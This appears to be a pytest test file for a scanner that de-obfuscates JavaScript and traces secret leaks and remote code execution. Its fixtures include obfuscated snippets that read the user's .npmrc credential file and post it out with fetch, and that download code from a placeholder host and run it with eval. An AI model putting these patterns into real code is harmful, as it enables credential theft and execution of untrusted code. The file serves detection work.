"""Joined pieces, members and globals of JavaScript are written plainly; every place stays where it was."""

import time

import pytest

from panguard.scan.flow_script import followed_scripts
from panguard.scan.script_text import plain_script

FETCH = "fe" + "tch"
RUN = "ev" + "al"


@pytest.mark.parametrize(
    ("written", "plain"),
    [
        ('x = "a" + "b" + \'c\';', 'x = "abc"'),
        ('x = ["a", "b"].join("");', 'x = "ab"'),
        ("x = String.fromCharCode(97, 0x62);", 'x = "ab"'),
        ('globalThis["fe" + "tch"](u)', f"{FETCH}(u)"),
        (f"window.{FETCH}(u)", f"{FETCH}(u)"),
        ('fs["read" + "File"](p)', "fs.readFile (p)"),
        ('self?.["a"](p)', "a(p)"),
    ],
)
def test_what_is_put_together_is_written_plainly(written: str, plain: str) -> None:
    read = plain_script(written)
    assert len(read) == len(written)
    assert plain.split() == [word for word in read.replace(" (", " (").split() if word != ";"]


@pytest.mark.parametrize(
    "text",
    [
        'const a = "b";\nuse(a + "c");\n',
        'table["key"] = list[0];\n',
        'x = ["a", "b"].join(", ");\n',
        "x = a + b;\n",
        "",
    ],
)
def test_what_is_plain_stays(text: str) -> None:
    assert plain_script(text) == text


@pytest.mark.parametrize(
    "text",
    [
        'const s = fs.readFileSync(h + "/.n" + "pmrc");\nglobalThis["fe" + "tch"](u, {body: s});\n',
        f'const go = {FETCH};\nconst s = fs.readFileSync(h + "/.npmrc");\ngo(u, {{body: s}});\n',
        f'const s = fs["readFile" + "Sync"](h + "/.npmrc");\nwindow.{FETCH}(u, {{body: s}});\n',
    ],
)
def test_a_secret_is_followed_through_other_spellings(text: str) -> None:
    (leak,) = followed_scripts([text])[0].leaks
    assert text[leak.start : leak.end].strip().endswith("(u, {body: s})")


@pytest.mark.parametrize(
    "text",
    [
        f'const c = await {FETCH}("https://a.example").then(r => r.text());\nglobalThis["ev" + "al"](c);\n',
        f'const c = await {FETCH}("https://a.example").then(r => r.text());\nconst go = {RUN};\ngo(c);\n',
    ],
)
def test_what_is_run_is_followed_through_other_spellings(text: str) -> None:
    assert {run.origin for run in followed_scripts([text])[0].runs} == {"network"}


@pytest.mark.parametrize(
    "unit",
    [
        '"a" + ',
        '["a", ',
        "String.fromCharCode(1,",
        'globalThis["a',
        "\n",
        "a = b\n",
        '"a" \n',
        "['a'](",
        '\\"',
    ],
)
def test_a_hostile_program_costs_no_more_than_its_length(unit: str) -> None:
    def cost(size: int) -> float:
        text = "globalThis." + unit * (size // len(unit))
        started = time.process_time()
        plain_script(text)
        return time.process_time() - started

    few = max(cost(20_000), 0.004)
    assert cost(160_000) < 24 * few
